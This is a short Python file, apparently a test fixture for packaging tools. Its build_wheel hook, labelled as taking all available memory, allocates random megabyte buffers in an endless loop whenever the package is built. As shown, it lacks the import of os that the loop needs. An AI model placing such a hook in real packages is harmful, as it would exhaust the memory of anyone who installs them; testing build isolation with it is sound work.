"""Takes all the memory it can get."""


def build_wheel(directory, config_settings=None, metadata_directory=None):
    hoard = []
    while True:
        hoard.append(bytearray(os.urandom(1 << 20)))
